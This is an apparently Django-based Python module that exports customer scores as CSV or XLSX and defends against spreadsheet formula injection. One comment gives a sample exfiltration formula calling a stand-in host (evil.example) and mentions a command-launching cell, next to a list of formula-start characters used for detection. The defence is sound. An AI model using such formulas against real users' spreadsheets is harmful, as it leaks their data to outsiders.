"""The score export: one row per customer with its stored score, as CSV or XLSX.

``score_row`` builds a row from the stored values, the one row builder of the command
(``score_rows``: every active customer's current score) and the dashboard's export
(``frame_rows``: the customers in view, as the dashboard's frame holds them). The values are
typed, so pages can show them; ``write_csv`` and ``write_xlsx`` write them as a file.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping, Sequence
from datetime import datetime
from typing import Any, BinaryIO, TextIO

import pandas as pd
from django.db.models import QuerySet
from django.utils import timezone

from scoring import selectors
from scoring.calculations import round_half_up
from scoring.models import Customer

COLUMNS = (
    "customer",
    "customer_name",
    "binding_score",
    "satisfaction",
    "alternatives",
    "investment",
    "band",
    "coverage",
    "respondents",
    "last_assessed_at",
)
SCORE_COLUMNS = ("binding_score", "satisfaction", "alternatives", "investment")

ScoreRow = dict[str, str | float | int | datetime | None]


def _number(value: object) -> float | None:
    """A stored number as a float; None for none (None or NaN)."""
    if value is None or pd.isna(value):
        return None
    return float(value)  # type: ignore[arg-type]


def score_row(
    *,
    external_id: str,
    name: str,
    scores: Mapping[str, object],
    band: str,
    coverage: object,
    respondents: object,
    last_assessed_at: datetime | None,
) -> ScoreRow:
    """One customer's row: scores to one decimal (None without a score), the band only with a
    score, coverage an int percent (0 without), last_assessed_at in local time (or None)."""
    row: ScoreRow = {"customer": external_id, "customer_name": name}
    for column in SCORE_COLUMNS:
        value = _number(scores.get(column))
        row[column] = None if value is None else float(round_half_up(value, 1))
    covered = _number(coverage)
    row["band"] = band if _number(scores.get("binding_score")) is not None else ""
    row["coverage"] = 0 if covered is None else int(round_half_up(covered, 0))
    row["respondents"] = int(_number(respondents) or 0)
    row["last_assessed_at"] = timezone.localtime(last_assessed_at) if last_assessed_at else None
    return row


def score_rows(customers: QuerySet[Customer] | None = None) -> list[ScoreRow]:
    """One row per active customer (by name) with its current stored score."""
    rows: list[ScoreRow] = []
    for item in selectors.export_rows(customers):
        customer, snapshot = item["customer"], item["snapshot"]
        rows.append(
            score_row(
                external_id=customer.external_id,
                name=customer.name,
                scores={c: getattr(snapshot, c) for c in SCORE_COLUMNS} if snapshot else {},
                band=snapshot.band if snapshot else "",
                coverage=snapshot.coverage if snapshot else None,
                respondents=snapshot.respondents if snapshot else 0,
                last_assessed_at=snapshot.last_assessed_at if snapshot else None,
            )
        )
    return rows


def frame_rows(customers: pd.DataFrame) -> list[ScoreRow]:
    """The rows of these customers as the dashboard's customers frame (with its listing
    columns) holds them, in the frame's order."""
    rows: list[ScoreRow] = []
    for record in customers.reset_index().to_dict("records"):
        last = record["last_assessed_at"]
        rows.append(
            score_row(
                external_id=record["external_id"],
                name=record["name"],
                scores=record,
                band=record["band"],
                coverage=record["coverage"],
                respondents=record["respondents"],
                last_assessed_at=None if pd.isna(last) else last.to_pydatetime(),
            )
        )
    return rows


def csv_value(value: str | float | int | datetime | None) -> str:
    """A value as the CSV export writes it: "%.1f" for scores, ISO 8601 for times, "" for none."""
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:.1f}"
    if isinstance(value, datetime):
        return value.isoformat(timespec="seconds")
    return str(value)


# Formula injection: a spreadsheet program runs a cell that starts with one of these as a
# formula (=HYPERLINK("https://evil.example/?d="&C2) sends the row away, +cmd|... starts a
# program). Text from users (names above all) is written so that it stays text: in CSV with a
# leading apostrophe (OWASP's advice: Excel and LibreOffice show the text, not a formula), in
# XLSX as a text cell (openpyxl would store it as a formula).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(value: object, text: str) -> str:
    """``text``, the CSV form of ``value``, with an apostrophe before it when ``value`` is
    text that a spreadsheet would run as a formula (numbers, e.g. -1.5, stay as they are)."""
    if isinstance(value, str) and text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def text_cell(sheet: Any, value: object) -> Any:
    """An XLSX cell of ``value``; text that looks like a formula stays text."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str) and cell.data_type == "f":
        cell.data_type = "s"
    return cell


def write_csv(rows: Sequence[ScoreRow], stream: TextIO) -> None:
    """Write the rows as comma-separated UTF-8 text with a header line."""
    writer = csv.writer(stream)
    writer.writerow(COLUMNS)
    for row in rows:
        writer.writerow([formula_safe(row.get(c), csv_value(row.get(c))) for c in COLUMNS])


def write_xlsx(rows: Sequence[ScoreRow], stream: BinaryIO) -> None:
    """Write the rows as an Excel workbook: numbers stay numbers, times are local times."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("scores")
    bold = Font(bold=True)
    header = []
    for column in COLUMNS:
        cell = WriteOnlyCell(sheet, value=column)
        cell.font = bold
        header.append(cell)
    sheet.append(header)
    for row in rows:
        cells = []
        for column in COLUMNS:
            value = row.get(column)
            if isinstance(value, datetime):
                # Excel has no time zones (local time) and keeps milliseconds: as in the CSV.
                value = value.replace(tzinfo=None, microsecond=0)
            cell = text_cell(sheet, value)
            if column in SCORE_COLUMNS:
                cell.number_format = "0.0"
            elif column == "last_assessed_at":
                cell.number_format = "yyyy-mm-dd hh:mm:ss"
            cells.append(cell)
        sheet.append(cells)
    # Save to memory first: zip files want a seekable stream and stdout is not one.
    buffer = io.BytesIO()
    workbook.save(buffer)
    stream.write(buffer.getvalue())


CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def export_bytes(rows: Sequence[ScoreRow], file_format: str) -> bytes:
    """The rows as the bytes of a CSV (UTF-8) or XLSX file; ``file_format`` is a key of
    CONTENT_TYPES."""
    if file_format == "csv":
        text = io.StringIO()
        write_csv(rows, text)
        return text.getvalue().encode("utf-8")
    data = io.BytesIO()
    write_xlsx(rows, data)
    return data.getvalue()
